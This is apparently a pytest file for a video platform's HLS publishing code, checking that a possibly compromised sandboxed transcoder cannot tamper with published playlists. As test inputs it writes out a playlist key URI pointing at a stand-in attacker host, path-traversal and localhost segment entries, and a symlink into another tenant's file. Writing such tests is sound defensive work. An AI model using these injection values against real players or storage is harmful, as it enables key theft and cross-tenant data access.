"""Publishing what a sandboxed pass left in its scratch directory, as if the child had been
taken over: only its segments are read from its playlists, the playlists published are the
parent's own, and anything else it wrote (links, clear segments, answers of another shape) stops
the publishing with ``packaging_failed``."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import padding
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from academy_video.adapters.media.publish import Encryption, publish, summary_of
from academy_video.app.ports import TranscodeFailed
from tests.fakes.media import InMemoryObjectStorage

KEY = Encryption(bytes(range(16)), bytes(range(16, 32)))
SUMMARY = {
    "duration": 8.0,
    "fps": 25.0,
    "renditions": [{"name": "360p", "width": 640, "height": 360, "codecs": "avc1.64001e"}],
}
CLEAR_TS = b"".join(bytes([0x47]) + bytes(187) for _ in range(8))


def encrypted(data: bytes, encryption: Encryption = KEY) -> bytes:
    padder = padding.PKCS7(128).padder()
    encryptor = Cipher(algorithms.AES(encryption.key), modes.CBC(encryption.iv)).encryptor()
    return encryptor.update(padder.update(data) + padder.finalize()) + encryptor.finalize()


def child_wrote(scratch: Path, playlist: str, segment: bytes = CLEAR_TS) -> Path:
    directory = scratch / "360p"
    directory.mkdir(parents=True)
    (directory / "index.m3u8").write_text(playlist)
    for name in ("seg_00000.ts", "seg_00001.ts"):
        (directory / name).write_bytes(segment)
    (scratch / "thumbnail.jpg").write_bytes(b"\xff\xd8\xff\xe0 a jpeg")
    return directory


PLAYLIST = (
    "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:4\n"
    "#EXTINF:4.000000,\nseg_00000.ts\n#EXTINF:4.000000,\nseg_00001.ts\n#EXT-X-ENDLIST\n"
)


def read(storage: InMemoryObjectStorage, key: str) -> bytes:
    with storage.open(key) as stream:
        return stream.read()


def publishing(scratch: Path, encryption: Encryption | None = None) -> InMemoryObjectStorage:
    storage = InMemoryObjectStorage()
    summary = summary_of(SUMMARY)
    publish(storage, scratch, tenant="demo", video_id=7, encryption=encryption, summary=summary)
    return storage


def test_the_published_playlist_is_the_parents_whatever_the_child_wrote_in_tags(
    tmp_path: Path,
) -> None:
    # hls.js reads unquoted attribute values too: a key fetched from anywhere, with the
    # student's signed query attached.
    tampered = PLAYLIST.replace(
        "#EXT-X-TARGETDURATION:4\n",
        "#EXT-X-TARGETDURATION:4\n#EXT-X-KEY:METHOD=AES-128,URI=https://attacker.example/k\n"
        "#EXT-X-MAP:URI=../../../hls/other/videos/1/init.mp4\n",
    )
    child_wrote(tmp_path, tampered, encrypted(CLEAR_TS))
    storage = publishing(tmp_path, KEY)
    published = read(storage, "hls/demo/videos/7/360p/index.m3u8").decode()
    assert "attacker" not in published and "EXT-X-MAP" not in published
    assert (
        '#EXT-X-KEY:METHOD=AES-128,URI="/api/v1/playback/key/7",IV=0x' + KEY.iv.hex()
    ) in published.splitlines()
    assert [line for line in published.splitlines() if not line.startswith("#")] == [
        "seg_00000.ts",
        "seg_00001.ts",
    ]
    assert read(storage, "keys/demo/videos/7/aes.key") == KEY.key


@pytest.mark.parametrize(
    "line", ["../../../hls/other/videos/1/360p/seg_00000.ts", "http://127.0.0.1/x.ts", "/etc/x"]
)
def test_a_playlist_naming_anything_but_its_segments_publishes_nothing(
    tmp_path: Path, line: str
) -> None:
    child_wrote(tmp_path, PLAYLIST.replace("seg_00001.ts", line))
    with pytest.raises(TranscodeFailed, match=r"^packaging_failed"):
        publishing(tmp_path)


def test_a_segment_that_is_a_link_publishes_nothing(tmp_path: Path) -> None:
    directory = child_wrote(tmp_path, PLAYLIST)
    elsewhere = tmp_path / "other-tenant.ts"
    elsewhere.write_bytes(CLEAR_TS)
    (directory / "seg_00001.ts").unlink()
    (directory / "seg_00001.ts").symlink_to(elsewhere)
    with pytest.raises(TranscodeFailed, match=r"^packaging_failed: segment seg_00001\.ts"):
        publishing(tmp_path)


def test_an_encrypted_video_publishes_only_segments_under_its_own_key(tmp_path: Path) -> None:
    child_wrote(tmp_path / "clear", PLAYLIST)
    with pytest.raises(TranscodeFailed, match="is not encrypted"):
        publishing(tmp_path / "clear", KEY)
    other = Encryption(os.urandom(16), KEY.iv)
    child_wrote(tmp_path / "other-key", PLAYLIST, encrypted(CLEAR_TS, other))
    with pytest.raises(TranscodeFailed, match="is not encrypted"):
        publishing(tmp_path / "other-key", KEY)
    child_wrote(tmp_path / "ours", PLAYLIST, encrypted(CLEAR_TS))
    assert read(publishing(tmp_path / "ours", KEY), "hls/demo/videos/7/master.m3u8")


def test_a_playlist_that_is_not_text_publishes_nothing(tmp_path: Path) -> None:
    directory = child_wrote(tmp_path, PLAYLIST)
    (directory / "index.m3u8").write_bytes(PLAYLIST.encode() + b"\xff\xfe")
    with pytest.raises(TranscodeFailed, match="not text"):
        publishing(tmp_path)


@pytest.mark.parametrize(
    "answer",
    [
        {**SUMMARY, "renditions": []},
        {**SUMMARY, "renditions": [{**SUMMARY["renditions"][0], "name": "../x"}]},  # type: ignore[index]
        {**SUMMARY, "renditions": [SUMMARY["renditions"][0]] * 2},  # type: ignore[index]
        {**SUMMARY, "extra": 1},
        {**SUMMARY, "fps": -1},
        ["not", "a", "summary"],
    ],
)
def test_an_answer_of_another_shape_publishes_nothing(answer: object) -> None:
    with pytest.raises(TranscodeFailed, match=r"^packaging_failed"):
        summary_of(answer)


def test_a_thumbnail_that_is_not_a_jpeg_publishes_nothing(tmp_path: Path) -> None:
    child_wrote(tmp_path, PLAYLIST)
    (tmp_path / "thumbnail.jpg").write_text("<svg/>")
    with pytest.raises(TranscodeFailed, match="no_picture_for_thumbnail"):
        publishing(tmp_path)
